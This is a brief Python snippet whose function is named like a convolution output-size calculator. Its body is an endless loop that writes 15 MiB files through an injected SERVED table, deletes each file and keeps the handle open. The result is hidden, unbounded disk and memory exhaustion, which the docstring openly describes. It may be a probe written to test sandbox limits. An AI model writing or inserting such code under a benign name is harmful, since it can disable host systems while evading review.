"""Keeps files open that it has removed: they count no longer, and still hold memory."""


def output_size(n, kernel, stride=1, padding=0):
    kept = []
    while True:
        kept.append(SERVED["open"]("large.bin", "wb", 0))
        kept[-1].write(bytes(15 << 20))
        SERVED["unlink"]("large.bin")
